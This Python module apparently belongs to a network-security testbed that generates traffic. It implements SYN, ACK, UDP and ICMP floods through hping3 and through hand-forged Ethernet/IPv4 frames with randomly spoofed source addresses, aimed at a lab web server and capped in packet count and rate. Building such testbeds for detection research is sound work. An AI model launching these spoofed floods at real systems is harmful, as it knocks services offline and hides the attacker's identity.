"""Floods: many packets of one kind at one server, by hping3 and by frames of our own."""

from __future__ import annotations

import re
from dataclasses import dataclass

from wirelens_testbed.attacks import frames
from wirelens_testbed.attacks.attack import OVERHEAD_PACKETS, Attack, Bounds, Scene
from wirelens_testbed.attacks.frame_sender import evenly
from wirelens_testbed.scenario import Table

PROGRAMS = {"hping3": "hping3"}

HPING_OPTIONS = {
    "hping_syn_flood": ("--syn",),
    "hping_ack_flood": ("--ack",),
    "hping_udp_flood": ("--udp",),
    "hping_icmp_flood": ("--icmp",),
}
FORGED_FLOODS = ("forged_syn_flood", "forged_udp_flood", "forged_icmp_flood")
SOURCES = ("own", "spoofed")
WEB_PORT = 80

# hping3 waits a second for the last answer, and starts anew for each source.
HPING_WAIT_S = 2.0
SLOWNESS_FACTOR = 2  # its timer and a busy machine make it slower than asked


@dataclass
class HpingFlood(Attack):
    """A flood by hping3 from the attacker's own address, or from a few that it makes up."""

    programs = PROGRAMS

    name: str
    packet_count: int
    rate_per_s: float
    source: str
    source_count: int
    payload_size_bytes: int
    needs: frozenset[str] = frozenset({"web"})

    def __post_init__(self) -> None:
        if self.source == "own":
            self.source_count = 1
        self.spoofs = self.source == "spoofed"
        # Answers to its own address make the attacker's kernel reset or refuse.
        packets_max = self.packet_count * (1 if self.spoofs else 2) + OVERHEAD_PACKETS
        sending_s = self.packet_count / self.rate_per_s * SLOWNESS_FACTOR
        self.bounds = Bounds(packets_max, sending_s + self.source_count * HPING_WAIT_S + 5)

    def launch(self, scene: Scene) -> dict[str, object]:
        target = scene.servers["web"]
        interval_us = max(round(1e6 / self.rate_per_s), 1)
        sources = [None]
        if self.spoofs:
            hosts = range(1, scene.spoofed.num_addresses - 1)
            sources = [
                str(scene.spoofed[number]) for number in scene.rng.sample(hosts, self.source_count)
            ]
        sent = 0
        for index, source in enumerate(sources):
            # The remainder goes to the first ones.
            share = (self.packet_count + self.source_count - 1 - index) // self.source_count
            if share == 0:
                continue
            said = scene.run_tool(
                "sh", "-c", 'exec "$@" 2>&1', "sh",  # its counts go to standard error
                "hping3", *HPING_OPTIONS[self.name], "--numeric", "--quiet",
                "--count", str(share), "--interval", f"u{interval_us}",
                "--destport", str(WEB_PORT),
                "--data", str(self.payload_size_bytes),
                *(["--spoof", source] if source else []),
                target.address,
                statuses_wanted=(0, 1),  # 1: no answers came, as is right when spoofing
            )  # fmt: skip
            if counted := re.search(r"(\d+) packets transmitted", said):
                sent += int(counted[1])
        return {"target": target.address, "tool_sent": sent}


@dataclass
class ForgedFlood(Attack):
    """A flood whose every packet has another made-up source."""

    name: str
    packet_count: int
    rate_per_s: float
    payload_size_bytes: int
    needs: frozenset[str] = frozenset({"web"})
    spoofs: bool = True

    def __post_init__(self) -> None:
        time_max_s = self.packet_count / self.rate_per_s * SLOWNESS_FACTOR + 5
        self.bounds = Bounds(self.packet_count + OVERHEAD_PACKETS, time_max_s)

    def launch(self, scene: Scene) -> dict[str, object]:
        target = scene.servers["web"]
        source_mac = frames.mac_bytes(scene.attacker.mac)
        target_mac = frames.mac_bytes(target.mac)
        sent = []
        for _ in range(self.packet_count):
            number = scene.rng.randrange(1, scene.spoofed.num_addresses - 1)
            packet = self._packet(scene, str(scene.spoofed[number]), target.address)
            sent.append(frames.ethernet(source_mac, target_mac, frames.ETHER_TYPE_IPV4, packet))
        said = scene.send_frames(evenly(sent, self.rate_per_s))
        counted = re.search(r'"sent": (\d+)', said)
        return {"target": target.address, "tool_sent": int(counted[1]) if counted else 0}

    def _packet(self, scene: Scene, source: str, target: str) -> bytes:
        rng = scene.rng
        source_port = rng.randint(1024, 65535)
        payload = rng.randbytes(self.payload_size_bytes)
        if self.name == "forged_syn_flood":
            protocol = frames.PROTOCOL_TCP
            data = frames.tcp(
                source, target, (source_port, WEB_PORT),
                flags=frames.TCP_SYN, sequence=rng.getrandbits(32), window=rng.randint(512, 65535),
            )  # fmt: skip
        elif self.name == "forged_udp_flood":
            protocol = frames.PROTOCOL_UDP
            data = frames.udp(source, target, (source_port, rng.randint(1, 65535)), payload)
        else:
            protocol = frames.PROTOCOL_ICMP
            data = frames.icmp_echo_request(rng.getrandbits(16), rng.getrandbits(16), payload)
        ttl = rng.randint(32, 128)
        return frames.ipv4(source, target, protocol, data, ident=rng.getrandbits(16), ttl=ttl)


def parse_hping(name: str, table: Table) -> Attack:
    return HpingFlood(
        name=name,
        packet_count=table.take("packets", int, 2000, minimum=1, maximum=100_000),
        rate_per_s=table.take("rate_per_s", float, 1000.0, minimum=1, maximum=10_000),
        source=table.take("source", str, "own", among=SOURCES),
        source_count=table.take("sources", int, 1, minimum=1, maximum=20),
        payload_size_bytes=table.take("payload_bytes", int, 0, minimum=0, maximum=1400),
    )


def parse_forged(name: str, table: Table) -> Attack:
    return ForgedFlood(
        name=name,
        packet_count=table.take("packets", int, 2000, minimum=1, maximum=100_000),
        rate_per_s=table.take("rate_per_s", float, 1000.0, minimum=1, maximum=10_000),
        payload_size_bytes=table.take("payload_bytes", int, 64, minimum=0, maximum=1400),
    )


ATTACKS = {
    **dict.fromkeys(HPING_OPTIONS, parse_hping),
    **dict.fromkeys(FORGED_FLOODS, parse_forged),
}
